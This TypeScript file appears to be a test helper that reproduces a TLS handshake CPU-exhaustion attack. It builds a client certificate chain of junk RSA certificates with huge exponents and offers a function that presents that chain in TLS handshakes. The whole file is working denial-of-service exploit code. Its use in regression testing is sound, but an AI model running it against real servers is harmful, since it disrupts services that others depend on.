import { generateKeyPairSync, randomBytes } from 'node:crypto'
import { connect, createSecureContext, type SecureContext, type TLSSocket } from 'node:tls'

/*
 * The handshake CPU-exhaustion attack of issue 7: a client certificate "chain" of junk RSA-3072
 * certificates, each with a ~3000-bit public exponent, linked by issuer/subject names. OpenSSL
 * builds that chain from what the peer sent and checks every signature (Node's verify callback
 * ignores every error), so each link costs a modular exponentiation with a 3000-bit exponent,
 * on the server's main thread, before any route runs. RSA verification needs no private key,
 * so the junk keys are random odd numbers: generating 60 of them costs nothing.
 */

function len(n: number): Buffer {
  if (n < 0x80) return Buffer.from([n])
  const bytes: number[] = []
  for (let v = n; v > 0; v >>= 8) bytes.unshift(v & 0xff)
  return Buffer.from([0x80 | bytes.length, ...bytes])
}
const tlv = (tag: number, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts)
  return Buffer.concat([Buffer.from([tag]), len(body.length), body])
}
const seq = (...parts: Buffer[]) => tlv(0x30, ...parts)
const int = (bytes: Buffer) =>
  tlv(0x02, bytes[0]! & 0x80 ? Buffer.concat([Buffer.from([0]), bytes]) : bytes)
const bits = (bytes: Buffer) => tlv(0x03, Buffer.from([0]), bytes)
const oid = (der: string) => tlv(0x06, Buffer.from(der, 'hex'))
const NULL = Buffer.from([0x05, 0x00])
const SHA256_RSA = seq(oid('2a864886f70d01010b'), NULL) // 1.2.840.113549.1.1.11
const RSA_KEY = seq(oid('2a864886f70d010101'), NULL) // 1.2.840.113549.1.1.1
const name = (cn: string) => seq(tlv(0x31, seq(oid('550403'), tlv(0x0c, Buffer.from(cn))))) // CN, UTF8String
const VALIDITY = seq(
  tlv(0x17, Buffer.from('200101000000Z')),
  tlv(0x17, Buffer.from('491231000000Z')),
)

/** A random odd number of exactly `bitLength` bits (top bit set). */
function oddNumber(bitLength: number): Buffer {
  const b = randomBytes(bitLength / 8)
  b[0] = b[0]! | 0x80
  b[b.length - 1] = b[b.length - 1]! | 1
  return b
}

/** A "signature" below every junk modulus (OpenSSL refuses one ≥ n before the exponentiation). */
const signature = () => Buffer.concat([Buffer.from([0x01]), randomBytes(383)])

function certificate(subject: string, issuer: string, spki: Buffer): Buffer {
  const tbs = seq(
    tlv(0xa0, int(Buffer.from([2]))), // v3, no extensions
    int(randomBytes(8).fill(1, 0, 1)),
    SHA256_RSA,
    name(issuer),
    VALIDITY,
    name(subject),
    spki,
  )
  return seq(tbs, SHA256_RSA, bits(signature()))
}

const pem = (der: Buffer) =>
  `-----BEGIN CERTIFICATE-----\n${der.toString('base64').replace(/.{64}/g, '$&\n')}\n-----END CERTIFICATE-----\n`

/** A leaf with a real key (so the client can finish its side) and `length` junk issuers. */
export interface HostileChain {
  readonly certPem: string
  readonly keyPem: string
  /** Bytes of certificates the client sends. */
  readonly bytes: number
}

/** Generates the hostile chain (once per test run: it is random and cheap). */
export function hostileChain(length = 60, exponentBits = 3000): HostileChain {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const leafSpki = publicKey.export({ format: 'der', type: 'spki' })
  const ders = [certificate('hostile leaf', 'junk 1', leafSpki)]
  for (let i = 1; i <= length; i++) {
    const rsa = seq(int(oddNumber(3072)), int(oddNumber(exponentBits)))
    ders.push(certificate(`junk ${i}`, `junk ${i + 1}`, seq(RSA_KEY, bits(rsa))))
  }
  return {
    certPem: ders.map(pem).join(''),
    keyPem: privateKey.export({ format: 'pem', type: 'pkcs8' }).toString(),
    bytes: ders.reduce((n, d) => n + d.length, 0),
  }
}

/** How one hostile handshake ended, from the client's side. */
export type HandshakeOutcome = 'completed' | 'failed'

// Parsing 60 certificates per connection would slow the attacker down: one context per chain.
const contexts = new WeakMap<HostileChain, SecureContext>()

/** One TLS handshake presenting `chain`; resolves when it completed or failed (never rejects). */
export function hostileHandshake(
  port: number,
  chain: HostileChain,
  options: {
    host?: string
    localAddress?: string
    timeoutMs?: number
    maxVersion?: 'TLSv1.2' | 'TLSv1.3'
  } = {},
): Promise<HandshakeOutcome> {
  return new Promise((resolve) => {
    let socket: TLSSocket | undefined
    const done = (outcome: HandshakeOutcome) => {
      clearTimeout(timer)
      socket?.destroy()
      resolve(outcome)
    }
    const timer = setTimeout(() => done('failed'), options.timeoutMs ?? 30_000)
    socket = connect({
      host: options.host ?? '127.0.0.1',
      port,
      ...(options.localAddress && { localAddress: options.localAddress }),
      secureContext:
        contexts.get(chain) ??
        contexts
          .set(chain, createSecureContext({ cert: chain.certPem, key: chain.keyPem }))
          .get(chain)!,
      rejectUnauthorized: false, // the attacker does not care who the server is
      ...(options.maxVersion && { maxVersion: options.maxVersion }),
    })
    // TLS 1.3: the server's verdict on the client certificate arrives after 'secureConnect';
    // a round trip shows whether the connection survived it.
    socket.once('secureConnect', () => {
      socket!.write('GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n')
    })
    socket.once('data', () => done('completed'))
    socket.once('error', () => done('failed'))
    socket.once('close', () => done('failed'))
  })
}
